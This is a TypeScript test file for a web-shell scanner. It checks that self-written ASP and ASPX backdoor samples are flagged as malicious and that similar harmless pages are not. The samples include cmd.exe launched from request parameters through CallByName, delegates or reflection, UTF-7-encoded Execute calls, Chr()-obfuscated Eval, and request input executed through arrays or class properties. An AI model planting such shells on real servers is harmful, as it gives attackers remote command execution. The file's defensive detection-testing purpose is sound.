import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Techniques of the ASP/ASPX misses of session 24's held-out set G (real shells kept outside the
// project), each written again by us with other names, strings and structure: a process started
// through CallByName or a delegate, C#'s global:: prefixes and a collection's Get, a UTF-7 page whose
// code page has leading zeros, a name built of Chr() calls then Eval'd, request input kept in an
// array's element, and a class whose Property Let executes what it is given.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

/** `text` as UTF-7 (one +...- run of the UTF-16BE Base64, its padding dropped). */
function utf7(text: string): string {
  const b = Buffer.alloc(text.length * 2);
  for (let i = 0; i < text.length; i++) b.writeUInt16BE(text.charCodeAt(i), i * 2);
  return `+${b.toString('base64').replace(/=+$/, '')}-`;
}

/** `text` as Chr(n) calls joined by `op` (n in hexadecimal, &H72, when `hex`). */
const chrs = (text: string, op: string, hex = false) => [...text].map((c) => (hex ? `Chr(&H${c.charCodeAt(0).toString(16)})` : `Chr(${c.charCodeAt(0)})`)).join(op);

const VB_PAGE = '<%@ Page Language="VB" %>\n';
const CS_PAGE = '<%@ Page Language="C#" %>\n';

/** Each case malicious (score 75 or more); every miss is said, not only the first. */
function expectMalicious(cases: [string, string][]): void {
  const misses = cases.map(([path, src]) => [path, src, scan(src, path)] as const).filter(([, , r]) => r.verdict !== 'malicious' || r.score < 75);
  assert.deepEqual(misses.map(([path, src, r]) => `${path} ${r.verdict} ${r.score}\n${src}\n${JSON.stringify(r.findings)}`), []);
}

/** Each case clean; every one that is not is said. */
function expectNotFlagged(cases: [string, string][]): void {
  const flagged = cases.map(([path, src]) => [path, src, scan(src, path)] as const).filter(([, , r]) => r.verdict !== 'clean');
  assert.deepEqual(flagged.map(([path, src, r]) => `${path} ${r.verdict} ${r.score}\n${src}\n${JSON.stringify(r.findings)}`), []);
}

describe('scan: ASP.NET processes started indirectly, with a collection Get as input (session 24 set G), samples of our own', () => {
  it('malicious: VB.NET ProcessStartInfo from Request.X.Get, started by CallByName, a delegate or a method group', () => {
    expectMalicious([
      // the shell in FileName, the request in Arguments, CallByName
      ['/www/run.aspx', `${VB_PAGE}<%\nDim line As String = Request.QueryString.Get("line")\nIf line <> "" Then\n  Dim info As New System.Diagnostics.ProcessStartInfo()\n  info.FileName = "cmd.exe"\n  info.Arguments = "/c " & line\n  info.UseShellExecute = False\n  info.RedirectStandardOutput = True\n  Dim worker As New System.Diagnostics.Process()\n  worker.StartInfo = info\n  CallByName(worker, "Start", CallType.Method)\n  Response.Write(worker.StandardOutput.ReadToEnd())\nEnd If\n%>`],
      // the program itself from the request, no shell named, no output read: CallByName
      ['/www/go.aspx', `${VB_PAGE}<%\nDim si As New System.Diagnostics.ProcessStartInfo()\nsi.FileName = Request.Form.Get("prog")\nsi.Arguments = Request.Form.Get("args")\nDim pr As New System.Diagnostics.Process()\npr.StartInfo = si\nCallByName(pr, "Start", CallType.Method)\n%>`],
      // the same through a delegate made with AddressOf, invoked
      ['/www/go2.aspx', `${VB_PAGE}<script runat="server">\nPublic Delegate Function Launch() As Boolean\n</script>\n<%\nDim exe As String = Request.Params.Get("exe")\nDim si As New System.Diagnostics.ProcessStartInfo()\nsi.FileName = exe\nDim pr As New System.Diagnostics.Process()\npr.StartInfo = si\nDim go As Launch = AddressOf pr.Start\ngo.Invoke()\n%>`],
      // the shell and StandardOutput, a delegate, the input from Request.Form.Get
      ['/www/d.aspx', `${VB_PAGE}<%\nDim c As String = Request.Form.Get("z")\nDim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & c)\npsi.RedirectStandardOutput = True\npsi.UseShellExecute = False\nDim p As New System.Diagnostics.Process()\np.StartInfo = psi\nDim f As Func(Of Boolean) = AddressOf p.Start\nf()\nResponse.Write(p.StandardOutput.ReadToEnd())\n%>`],
      // C#: the program from the request, started through a Func<bool> over the method group
      ['/www/cs.aspx', `${CS_PAGE}<%\nvar si = new System.Diagnostics.ProcessStartInfo();\nsi.FileName = Request.QueryString.Get("f");\nvar pr = new System.Diagnostics.Process();\npr.StartInfo = si;\nFunc<bool> kick = pr.Start;\nkick();\n%>`],
      // VB.NET: Interaction.CallByName with the method's name in two pieces
      ['/www/vb3.aspx', `${VB_PAGE}<%\nDim a As String = Request.Params.Get("a")\nDim si As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & a)\nDim p As New System.Diagnostics.Process()\np.StartInfo = si\nInteraction.CallByName(p, "Sta" & "rt", CallType.Method)\n%>`],
      // C#: GetValues(...)[0], GetMethod("Start").Invoke
      ['/www/cs3.aspx', `${CS_PAGE}<%\nvar si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Params.GetValues("a")[0]);\nvar p = new System.Diagnostics.Process(); p.StartInfo = si;\ntypeof(System.Diagnostics.Process).GetMethod("Start", Type.EmptyTypes).Invoke(p, null);\n%>`],
      // C#: global::, the StartInfo's program from the request, started in a lambda
      ['/www/cs4.aspx', `${CS_PAGE}<%\nvar p = new global::System.Diagnostics.Process();\np.StartInfo.FileName = Request.Form.Get("f");\np.StartInfo.Arguments = Request.Form.Get("a");\nnew Action(() => p.Start())();\n%>`],
      // C#: reflection's InvokeMember("Start")
      ['/www/cs2.aspx', `${CS_PAGE}<%\nstring prog = Request.Params.Get("p");\nvar si = new System.Diagnostics.ProcessStartInfo();\nsi.FileName = prog;\nvar pr = new System.Diagnostics.Process();\npr.StartInfo = si;\npr.GetType().InvokeMember("Start", System.Reflection.BindingFlags.InvokeMethod, null, pr, null);\n%>`],
    ]);
  });

  it('malicious: C# with global:: before System.Diagnostics, and a collection Get', () => {
    expectMalicious([
      ['/www/g.aspx', `${CS_PAGE}<%\nglobal::System.Diagnostics.ProcessStartInfo start = new global::System.Diagnostics.ProcessStartInfo();\nstart.FileName = "cmd.exe";\nstart.Arguments = "/c " + Request.Form.Get("q");\nstart.RedirectStandardOutput = true;\nstart.UseShellExecute = false;\nvar proc = global::System.Diagnostics.Process.Start(start);\nResponse.Write(proc.StandardOutput.ReadToEnd());\n%>`],
      ['/www/g2.aspx', `${CS_PAGE}<% global::System.Diagnostics.Process.Start(new global :: System.Diagnostics.ProcessStartInfo(Request.QueryString.Get("exe"))); %>`],
      // JScript.NET eval of a collection's Get
      ['/www/j.aspx', '<%@ Page Language="JScript" %>\n<% eval(Request.Params.Get("code"), "unsafe"); %>'],
    ]);
  });

  it('not flagged: a page starting a fixed program, request input used elsewhere (escaped)', () => {
    expectNotFlagged([
      ['/www/report.aspx', `${VB_PAGE}<%\nDim info As New System.Diagnostics.ProcessStartInfo()\ninfo.FileName = "C:\\Tools\\rebuild-index.exe"\ninfo.Arguments = "--quiet"\ninfo.UseShellExecute = False\nDim job As New System.Diagnostics.Process()\njob.StartInfo = info\nCallByName(job, "Start", CallType.Method)\nResponse.Write(Server.HtmlEncode(Request.QueryString.Get("msg")))\n%>`],
      ['/www/thumb.aspx', `${CS_PAGE}<%\nvar si = new global::System.Diagnostics.ProcessStartInfo("magick.exe", "convert in.png -resize 64x64 out.png");\nsi.UseShellExecute = false;\nvar pr = new global::System.Diagnostics.Process();\npr.StartInfo = si;\nFunc<bool> go = pr.Start;\ngo();\nResponse.Write(Server.HtmlEncode(Request.Form.Get("title")));\n%>`],
    ]);
  });
});

describe('scan: classic ASP techniques of session 24 set G, samples of our own', () => {
  it('malicious: a UTF-7 page (code page 65000 with any leading zeros) whose code runs the request', () => {
    expectMalicious([
      ['/www/u.asp', `<%@codepage=00065000%>\n<%\n${utf7('Execute(Request.Form("p"))')}\n%>\n`],
      ['/www/u2.asp', `<%@ LANGUAGE="VBSCRIPT" CODEPAGE="000000000000065000" %>\n<% ${utf7('eval request("t")')} %>`],
      ['/www/u3.asp', `<%@ codepage = 65000 %><%${utf7('ExecuteGlobal Request.QueryString("w")')}%>`],
      // (a character that is not ASCII in the same run as the code, and +- for a plus sign)
      ['/www/u4.asp', `<%@ CodePage=0065000 %>\n<% n = 1 +- 2 : ${utf7('\u6ce8: Execute Request.Cookies("w")')} %>`],
    ]);
  });

  it('malicious: Eval of a name built of Chr() joined by + or &, then called with the request parameter', () => {
    expectMalicious([
      ['/www/c.asp', `<% Eval(Eval(${chrs('request', '+')})("pw")) %>`],
      ['/www/c2.asp', `<%\nExecute Eval(${chrs('request', ' & ')})("k")\n%>`],
      ['/www/c3.asp', `<% eval(eval(Chr(82) & "eq" & ChrW(117) & "est")("zz")) %>`],
      ['/www/c4.asp', `<% Execute(Eval(${chrs('Request.Form', '&')})("k")) %>`],
      ['/www/c5.asp', `<% Eval(Eval(${chrs('request', '&', true)})("p")) %>`],
      // the whole statement built of Chr()
      ['/www/c6.asp', `<% Execute(${chrs('eval request("p")', '&')}) %>`],
      // JScript: String.fromCharCode
      ['/www/c7.asp', '<%@ Language="JScript" %><% eval(eval(String.fromCharCode(82,101,113,117,101,115,116))("q")); %>'],
    ]);
  });

  it('malicious: request input kept in an array element, then executed', () => {
    expectMalicious([
      ['/www/a.asp', '<%\nDim parts(3)\nparts(1) = Request.Form("data")\nExecute(parts(1))\n%>'],
      ['/www/a2.asp', '<%\nDim box(9) : box( 2 ) = Request.QueryString("s") : ExecuteGlobal box(2)\n%>'],
      ['/www/a3.asp', '<%\nReDim q(1)\nq(0) = Request("x")\nIf q(0) <> "" Then Eval(q(0))\n%>'],
      // a Dictionary's entry by a literal key
      ['/www/a4.asp', '<%\nSet bag = CreateObject("Scripting.Dictionary")\nbag("job") = Request.Form("job")\nExecute bag("job")\n%>'],
      ['/www/a5.asp', '<%\nSet bag = CreateObject("Scripting.Dictionary")\nbag.Item("j") = Request.QueryString("j")\nExecuteGlobal bag.Item("j")\n%>'],
    ]);
  });

  it('malicious: a class whose Property Let (or a Sub) executes its argument, given request input', () => {
    expectMalicious([
      ['/www/k.asp', '<%\nClass Runner\n  Private held\n  Public Property Let Code(v)\n    ExecuteGlobal(v)\n  End Property\nEnd Class\nSet r = New Runner\nr.Code = Request.Form("src")\n%>'],
      ['/www/k2.asp', '<%\nClass Box\n  Public Property Let Text(ByVal s)\n    Execute s\n  End Property\nEnd Class\nDim b : Set b = New Box\nt = Request.QueryString("t")\nWith b\n  .Text = t\nEnd With\n%>'],
      ['/www/k3.asp', '<%\nSub Perform(stmt)\n  Execute stmt\nEnd Sub\nPerform Request.Cookies("job")\n%>'],
      // (through a variable, in a With block on a new object)
      ['/www/k5.asp', '<%\nClass Sink\n Private Sub Class_Initialize()\n End Sub\n Public Property Let Body(s)\n  Execute s\n End Property\nEnd Class\nDim snk, v\nv = Request("x")\nWith New Sink\n .Body = v\nEnd With\n%>'],
      // the value stored in a field its class runs elsewhere: in Class_Terminate, or in a method
      ['/www/k6.asp', '<%\nClass Job\n  Dim body\n  Public Property Let Text(v)\n    body = v\n  End Property\n  Private Sub Class_Terminate()\n    ExecuteGlobal body\n  End Sub\nEnd Class\nSet j = New Job\nj.Text = Request.Form("t")\nSet j = Nothing\n%>'],
      ['/www/k7.asp', '<%\nClass Task\n  Private m_src\n  Public Property Let Src(ByVal v)\n    Me.m_src = v\n  End Property\n  Public Sub Go()\n    Execute(m_src)\n  End Sub\nEnd Class\nDim j : Set j = New Task\nj.Src = Request("t")\nj.Go\n%>'],
      ['/www/k4.asp', '<%\nFunction Calc(expr)\n  Calc = Eval(expr)\nEnd Function\nResponse.Write Calc(Request("e"))\n%>'],
    ]);
  });

  it('not flagged: code page 65001, Chr() building HTML, arrays and classes of request input that run nothing', () => {
    expectNotFlagged([
      ['/www/utf8.asp', '<%@ codepage=65001 %>\n<% Response.Write "+AGUAdgBhAGwA- " & Server.HTMLEncode(Request("q")) %>'],
      ['/www/utf8b.asp', '<%@ CODEPAGE="0065001" %>\n<% Response.CharSet = "utf-8" : Response.Write Server.HTMLEncode(Request.Form("name")) %>'],
      // (a codepage line that is not the page's directive does not make it UTF-7)
      ['/www/notes.asp', '<%\n\' codepage=65000 is UTF-7, never use it\nResponse.Write "a+AGUAdgBhAGwA-b"\n%>'],
      ['/www/html.asp', `<%\nResponse.Write ${chrs('<b>', ' & ')} & Server.HTMLEncode(Request("t")) & Chr(60) & "/b" & Chr(62)\nnl = Chr(13) + Chr(10)\nResponse.Write "done" & nl\n%>`],
      ['/www/dict.asp', '<%\nSet d = CreateObject("Scripting.Dictionary")\nd("name") = Request.Form("name")\nResponse.Write Server.HTMLEncode(d("name"))\n%>'],
      ['/www/js.asp', '<%@ Language="JScript" %><% var s = String.fromCharCode(60, 98, 62) + Server.HTMLEncode(Request("q")); Response.Write(s); %>'],
      ['/www/arr.asp', '<%\nDim f(2)\nf(0) = Request.Form("first")\nf(1) = Request.Form("last")\nResponse.Write Server.HTMLEncode(f(0) & " " & f(1))\n%>'],
      ['/www/cls.asp', '<%\nClass Person\n  Private m_name\n  Public Property Let Name(v)\n    m_name = Trim(v)\n  End Property\n  Public Property Get Name()\n    Name = m_name\n  End Property\nEnd Class\nSet p = New Person\np.Name = Request.Form("name")\nResponse.Write Server.HTMLEncode(p.Name)\n%>'],
      // (a field of the same name run by another class is not this class's)
      ['/www/cls2.asp', '<%\nClass Note\n  Dim body\n  Public Property Let Text(v)\n    body = v\n  End Property\n  Public Sub Show()\n    Response.Write Server.HTMLEncode(body)\n  End Sub\nEnd Class\nClass Macro\n  Dim body\n  Sub Run()\n    Execute body\n  End Sub\nEnd Class\nSet n = New Note\nn.Text = Request.Form("t")\nn.Show\n%>'],
      ['/www/sub.asp', '<%\nSub Show(msg)\n  Response.Write Server.HTMLEncode(msg)\nEnd Sub\nShow Request("m")\n%>'],
      ['/www/fixed.asp', '<%\nSub RunFixed(stmt)\n  stmt = "x = 1"\n  Execute stmt\nEnd Sub\nRunFixed Request("m")\n%>'],
    ]);
  });
});
